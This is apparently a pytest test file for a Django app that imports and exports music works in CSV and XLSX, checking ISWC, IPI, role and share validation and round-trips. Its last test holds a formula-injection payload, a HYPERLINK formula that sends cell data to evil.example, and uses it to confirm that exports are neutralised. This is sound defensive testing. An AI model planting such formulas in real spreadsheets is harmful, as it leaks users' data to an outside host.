import pytest

from works.models import Work, WorkShare
from works.spreadsheet import export_works, import_works

pytestmark = pytest.mark.django_db

GOOD_AND_BAD = (
    "title,iswc,alternate_titles,role,last_name,first_name,ipi_name,pr_share,mr_share\n"
    "Good Song,T-034.524.680-1,Buena Canción;Bonne Chanson,CA,Okafor,Ada,00014107338,50,50\n"
    "Good Song,T-034.524.680-1,,E,Atlas Songs,,,50,50\n"
    "Bad Iswc,T-034.524.680-2,,CA,Silva,João,,100,100\n"
    "Too Much,,,C,Rossi,Ana,,70,100\n"
    "Too Much,,,A,Weber,Ben,,40,0\n"
    "Bad Role,,,ZZ,Mensah,Kofi,,100,100\n"
    "Bad Ipi,,,C,Dubois,Léa,00014107339,100,100\n"
)


@pytest.fixture
def sheet(tmp_path):
    path = tmp_path / "works.csv"
    path.write_text(GOOD_AND_BAD, encoding="utf-8")
    return path


def test_valid_rows_import_and_each_bad_row_is_reported_with_row_and_field(sheet):
    result = import_works(sheet)

    assert (result.rows, result.created) == (7, 1)
    work = Work.objects.get()
    assert (work.title, work.iswc) == ("Good Song", "T0345246801")
    assert sorted(work.alternate_titles.values_list("title", flat=True)) == ["Bonne Chanson", "Buena Canción"]
    assert WorkShare.objects.filter(work=work).count() == 2
    located = {(row, field) for row, field, _ in result.errors}
    assert (3, "iswc") in located
    assert (4, "pr_share (total)") in located
    assert (6, "role") in located
    assert (7, "ipi_name") in located


def test_importing_the_same_file_twice_changes_nothing(sheet):
    import_works(sheet)
    ids = list(WorkShare.objects.values_list("id", flat=True))

    again = import_works(sheet)

    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)
    assert list(WorkShare.objects.values_list("id", flat=True)) == ids


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_reads_back_to_the_same_works(sheet, tmp_path, fmt):
    import_works(sheet)
    out = tmp_path / f"export.{fmt}"

    assert export_works(out, fmt=fmt) == 2
    result = import_works(out)

    assert (result.created, result.updated, result.unchanged, result.errors) == (0, 0, 1, [])


def test_a_semicolon_separated_sheet_with_a_bom_imports_like_a_comma_separated_one(tmp_path):
    path = tmp_path / "works.csv"
    text = (
        "title;iswc;alternate_titles;role;last_name;first_name;ipi_name;pr_share;mr_share\n"
        'Good Song;T-034.524.680-1;"Buena Canción;Bonne Chanson";CA;Okafor;Ada;00014107338;50,00;50\n'
        "Good Song;T-034.524.680-1;;E;Atlas Songs;;;50;50\n"
    )
    path.write_text(text, encoding="utf-8-sig")

    result = import_works(path)

    assert (result.rows, result.created, result.errors) == (2, 1, [])
    work = Work.objects.get()
    assert sorted(work.alternate_titles.values_list("title", flat=True)) == ["Bonne Chanson", "Buena Canción"]
    assert WorkShare.objects.filter(work=work).count() == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_title_that_looks_like_a_formula_is_exported_inert_and_reads_back_as_written(tmp_path, fmt):
    from openpyxl import load_workbook

    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = tmp_path / "works.csv"
    quoted = title.replace('"', '""')
    path.write_text(f'title,role,last_name,pr_share\n"{quoted}",CA,Okafor,100\n', "utf-8")
    import_works(path)
    assert Work.objects.get().title == title
    out = tmp_path / f"export.{fmt}"

    export_works(out, fmt=fmt)

    if fmt == "csv":
        assert f"'{quoted}" in out.read_text("utf-8")  # behind OWASP's apostrophe: never evaluated
    else:
        cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == title]
        assert cells and all(c.data_type == "s" for c in cells)  # a text cell, not a formula
    again = import_works(out)
    assert (again.created, again.updated, again.unchanged, again.errors) == (0, 0, 1, [])
    assert Work.objects.get().title == title
